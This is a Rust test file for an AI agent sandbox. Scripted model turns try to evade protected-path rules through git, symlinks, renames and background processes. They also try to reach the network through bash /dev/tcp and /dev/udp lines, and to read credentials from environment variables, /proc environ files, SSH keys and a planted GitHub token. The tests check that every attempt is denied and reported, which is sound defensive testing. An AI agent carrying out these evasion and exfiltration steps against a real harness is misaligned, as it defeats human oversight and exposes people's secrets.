//! What the goal keeps, whatever way it is gone about: none of it reaches the branch, each attempt is in the report, and
//! what is the person's own stays out of sight.

use std::fs;
use std::net::TcpStream;
use std::path::{Path, PathBuf};

use crate::world::{KEY, World, denials, have, model, told};

/// Files to guard: a whole folder, a pattern, and what the goal does not name at all.
fn guarded() -> World {
    let world = World::new(&[
        ("work/todo.txt", "open\n"),
        ("kept/schema.sql", "CREATE TABLE old;\n"),
        ("pages/a.snap", "first\n"),
        ("pages/a.txt", "page\n"),
        ("README.md", "Read me.\n"),
    ]);
    world.put("kept/schema.sql", "CREATE TABLE receipts;\n");
    world.put("pages/a.snap", "a\n");
    world.commit("Second");
    world
}

const GOAL: &str = "---\noutcome: The work is done.\ndone:\n  - {file: work/todo.txt, contains: done}\nkeep: {paths: [\"kept/**\", \"*.snap\"]}\nstop: {turns: 12, hours: 1}\n---\nGo on.\n";

/// Plays a turn of mischief and the honest work after it. Whatever was tried, only the work is delivered; gives the
/// report's denials and what the model was told of its attempt.
fn tries(goal: &str, mischief: &str) -> (Vec<String>, String) {
    let world = guarded();
    let before = world.snapshot();
    let script = format!(
        "turns:\n{mischief}\n  - shell: echo done > work/todo.txt\n  - claim_done: Do the work\n"
    );
    let server = model(&script);
    let done = world.run(&server, goal).exits(0);
    assert_eq!(world.changes_on(&done.branch()), ["M work/todo.txt"]);
    assert_eq!(world.snapshot(), before);
    let report = done.report();
    let found = denials(&report);
    assert_eq!(
        report["denials_total"].as_u64().unwrap_or(0) > 0,
        !found.is_empty()
    );
    let page = done.report_text();
    for denial in report["denials"].as_array().into_iter().flatten() {
        let rule = denial["rule"].as_str().unwrap_or("?");
        assert!(page.contains(rule), "report.md tells of `{rule}`");
    }
    let told: Vec<String> = (2..=script.matches("\n  - ").count() as u64)
        .map(|turn| told(&server, turn))
        .collect();
    (found, told.join("\n"))
}

#[track_caller]
fn denied(found: &[String], rule: &str, what: &str) {
    let hit = |line: &String| line.starts_with(rule) && line.contains(what);
    assert!(
        found.iter().any(hit),
        "no denial of {what} by {rule} in {found:#?}"
    );
}

#[test]
fn a_kept_folder_is_read_only_for_the_shell() {
    let (found, told) = tries(
        GOAL,
        "  - shell: echo 'DROP TABLE receipts;' > kept/schema.sql; echo x > kept/new.sql; rm -f kept/schema.sql",
    );
    denied(&found, "keep.paths", "kept/schema.sql");
    denied(&found, "keep.paths", "kept/new.sql");
    assert!(told.contains("Read-only file system"), "{told}");
}

#[test]
fn a_kept_pattern_is_put_back_after_the_shell_changed_it() {
    let (found, told) = tries(
        GOAL,
        "  - shell: echo forged > pages/a.snap; echo new > pages/b.snap; cat pages/a.snap",
    );
    denied(&found, "keep.paths", "pages/a.snap");
    denied(&found, "keep.paths", "pages/b.snap");
    assert!(
        told.contains("[denied by `keep.paths`: `pages/a.snap`"),
        "{told}"
    );
}

#[test]
fn a_kept_file_is_put_back_after_it_was_deleted_or_made_executable() {
    let (found, _) = tries(
        GOAL,
        "  - shell: rm pages/a.snap\n  - shell: chmod +x pages/a.snap",
    );
    assert_eq!(
        found
            .iter()
            .filter(|d| d.as_str() == "keep.paths pages/a.snap")
            .count(),
        2,
        "one in each turn: {found:#?}"
    );
}

#[test]
fn the_file_tools_refuse_what_is_kept() {
    let (found, told) = tries(
        GOAL,
        "  - calls:\n      \
         - write: {path: kept/schema.sql, content: DROP}\n      \
         - edit: {path: pages/a.snap, old: a, new: b}\n      \
         - write: {path: work/../kept/other.sql, content: DROP}\n      \
         - write: {path: ./pages//b.snap, content: x}",
    );
    for path in [
        "kept/schema.sql",
        "kept/other.sql",
        "pages/a.snap",
        "pages/b.snap",
    ] {
        denied(&found, "keep.paths", path);
    }
    assert!(
        told.contains("Denied by `keep.paths`: `kept/schema.sql`"),
        "{told}"
    );
}

#[test]
fn git_is_no_way_around() {
    let (found, _) = tries(
        GOAL,
        "  - shell: git checkout -q HEAD~1 -- pages/a.snap && cat pages/a.snap\n  \
         - shell: git mv pages/a.snap pages/moved.snap && git commit -q -m moved\n  \
         - shell: git reset -q --hard HEAD~2; git stash list\n  \
         - shell: git rm -q -r kept; git update-index --assume-unchanged README.md",
    );
    denied(&found, "keep.paths", "pages/a.snap");
    denied(&found, "keep.paths", "pages/moved.snap");
}

#[test]
fn moving_and_linking_are_no_way_around() {
    let (found, _) = tries(
        GOAL,
        "  - shell: mv pages old && mkdir pages && echo forged > pages/a.snap; rm -rf pages && mv old pages\n  \
         - shell: ln -s ../pages/a.snap work/link && echo forged > work/link; rm work/link\n  \
         - shell: ln pages/a.snap work/hard && echo forged > work/hard; rm work/hard\n  \
         - shell: ln -s kept alias && echo forged > alias/schema.sql; rm alias\n  \
         - shell: mv kept kept2 || echo cannot; ln -sfn work pages/link; echo forged > pages/link/x.snap; rm -rf pages/link work/x.snap\n  \
         - shell: rm pages/a.snap && ln -s /etc/hostname pages/a.snap",
    );
    denied(&found, "keep.paths", "pages/a.snap");
    denied(&found, "keep.paths", "alias/schema.sql");
}

#[test]
fn a_command_in_the_background_is_watched_too() {
    let (found, told) = tries(
        GOAL,
        "  - shell: {command: \"sleep 0.4; echo forged > pages/a.snap; echo forged > kept/schema.sql\", background: true}\n  \
         - wait: {command: bg1}\n  \
         - calls:\n      \
         - shell: {command: \"sleep 0.4; echo late > pages/a.snap\", background: true}\n      \
         - shell: sleep 0.8",
    );
    denied(&found, "keep.paths", "pages/a.snap");
    assert!(
        told.contains("[denied by `keep.paths`: `pages/a.snap`"),
        "{told}"
    );
}

#[test]
fn a_background_command_does_not_outlive_the_claim() {
    let world = guarded();
    let server = model(
        r#"
turns:
  - shell: {command: "sleep 3; while :; do echo forged > pages/a.snap; echo sneaked > work/extra.txt; sleep 0.05; done", background: true}
  - shell: echo done > work/todo.txt
  - claim_done: Do the work
"#,
    );
    // The check takes longer than the background command waits.
    let goal = GOAL.replace(
        "done:\n",
        "done:\n  - {id: slow, run: sleep 4; grep done work/todo.txt}\n",
    );
    let done = world.run(&server, &goal).exits(0);
    assert_eq!(world.changes_on(&done.branch()), ["M work/todo.txt"]);
}

#[test]
fn only_what_use_names_may_change() {
    let goal = GOAL.replace("stop:", "use: {paths: [work/**]}\nstop:");
    let (found, told) = tries(
        &goal,
        "  - shell: echo rewritten > README.md; echo new > pages/b.txt; rm pages/a.txt; mkdir more && echo x > more/deep.txt\n  \
         - calls: [{write: {path: README.md, content: mine}}, {write: {path: lib/new.txt, content: mine}}]",
    );
    for path in [
        "README.md",
        "pages/b.txt",
        "pages/a.txt",
        "more/deep.txt",
        "lib/new.txt",
    ] {
        denied(&found, "use.paths", path);
    }
    assert!(
        told.contains("Denied by `use.paths`: `README.md`"),
        "{told}"
    );
}

#[test]
fn programs_and_tools_that_the_goal_does_not_name_are_refused() {
    let goal = GOAL.replace(
        "stop:",
        "use: {commands: [echo, cat], tools: [shell, read]}\nstop:",
    );
    let (found, told) = tries(
        &goal,
        "  - shell: curl http://example.org/\n    write: {path: work/todo.txt, content: \"done\"}",
    );
    denied(&found, "use.commands", "curl");
    denied(&found, "use.tools", "write");
    assert!(told.contains("Denied by `use.commands`: `curl`"), "{told}");
}

#[test]
fn there_is_no_network_but_a_private_loopback() {
    if !have("bash --version") {
        return;
    }
    let world = guarded();
    let other = model("turns:\n  - say: nobody asks me\n");
    let port = other
        .address()
        .rsplit(':')
        .next()
        .expect("a port")
        .to_owned();
    assert!(
        TcpStream::connect(format!("127.0.0.1:{port}")).is_ok(),
        "from outside it can be reached"
    );
    let server = model(&format!(
        r#"
turns:
  - shell: |
      bash -c 'echo hello > /dev/tcp/127.0.0.1/{port} && echo LEAKED-LOOPBACK'
      bash -c 'echo hello > /dev/tcp/192.0.2.1/80 && echo LEAKED-ADDRESS'
      bash -c 'echo hello > /dev/tcp/example.org/80 && echo LEAKED-NAME'
      bash -c 'echo hello > /dev/udp/192.0.2.1/53 && echo LEAKED-UDP'
      ls -d /run/docker.sock /var/run/dbus /run/systemd/private 2>/dev/null
      echo done > work/todo.txt
  - claim_done: Do the work
"#
    ));
    let done = world.run(&server, GOAL).exits(0);
    let seen = told(&server, 2);
    // The command line itself is echoed nowhere, so that this word can only come from a connection.
    assert!(!seen.contains("LEAKED"), "{seen}");
    assert!(seen.contains("[exit code 0"), "{seen}");
    assert_eq!(other.connections(), 1, "nobody came but the test itself");
    denied(&denials(&done.report()), "use.network", "192.0.2.1");
}

#[test]
fn keys_home_and_harness_are_out_of_sight() {
    // Not among the temporary files, which are private to a command anyway.
    let mut world = World::within(Path::new(env!("CARGO_TARGET_TMPDIR")));
    world.git(&["init", "-q", "-b", "main"]);
    world.put("work/todo.txt", "open\n");
    world.commit("Begin");
    const OTHER: &str = "ghp_e2eSecretOfAnother8172";
    const IN_HOME: &str = "in-the-home-of-the-person-5521";
    fs::write(world.home.join("secret.txt"), IN_HOME).expect("written");
    fs::create_dir(world.home.join(".ssh")).expect("made");
    fs::write(world.home.join(".ssh/id_ed25519"), IN_HOME).expect("written");
    fs::write(world.root.join("neighbour.txt"), "not secret").expect("written");
    world.env.insert("GITHUB_TOKEN".into(), OTHER.into());
    let (home, state, root) = (
        world.home.display(),
        world.state.display(),
        world.root.display(),
    );
    let server = model(&format!(
        r#"
turns:
  - fail: {{kind: rate_limited, retry_after_s: 0.1, message: "Slow down, {KEY}!"}}
  - shell: env; set; export -p; cat /proc/self/environ /proc/1/environ /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\0' '\n'
  - shell: cat {home}/secret.txt {home}/.ssh/id_ed25519; ls -a {home}; ls {state} {state}/runs; cat {state}/runs/*/journal.db; cat {root}/neighbour.txt {root}/goal.md
  - shell: cat ~/secret.txt; echo mine > {home}/planted; echo mine > {state}/planted; echo mine > {root}/planted; ls -l /proc/[0-9]*/fd
  - calls:
      - read: {{path: {home}/secret.txt}}
      - read: {{path: ../../../home/secret.txt}}
      - shell: ln -s {home}/secret.txt leak; ln -s {home} away
  - calls:
      - read: {{path: leak}}
      - read: {{path: away/secret.txt}}
      - write: {{path: away/planted, content: mine}}
      - search: {{pattern: person, path: away}}
  - shell: rm leak away; echo done > work/todo.txt
  - claim_done: Do the work
"#
    ));
    let done = world.run(&server, GOAL).exits(0);
    let all: String = (2..=7).map(|turn| told(&server, turn)).collect();
    for secret in [KEY, OTHER, IN_HOME] {
        assert!(
            !all.contains(secret),
            "{secret} was shown to the model:\n{all}"
        );
    }
    assert!(
        all.contains("OVERNIGHT") || all.contains("PATH="),
        "the environment was shown: {all}"
    );
    for planted in [&world.home, &world.state, &world.root] {
        assert!(!planted.join("planted").exists(), "{}", planted.display());
    }
    // The key is nowhere in what is kept: journal, blobs, reports, workspaces; nor in what was printed.
    let mut files = Vec::new();
    below(&world.state, &mut files);
    assert!(files.iter().any(|f| f.ends_with("journal.db")), "{files:?}");
    for file in &files {
        let content = fs::read(file).unwrap_or_default();
        for secret in [KEY, OTHER, IN_HOME] {
            let found = content
                .windows(secret.len())
                .any(|w| w == secret.as_bytes());
            assert!(!found, "{secret} is in {}", file.display());
        }
    }
    assert!(!done.out.contains(KEY) && !done.err.contains(KEY));
    let failures = done.report()["model_failures"].to_string();
    assert!(failures.contains("Slow down"), "{failures}");
}

fn below(dir: &Path, files: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() && !path.is_symlink() {
            below(&path, files);
        } else if path.is_file() {
            files.push(path);
        }
    }
}
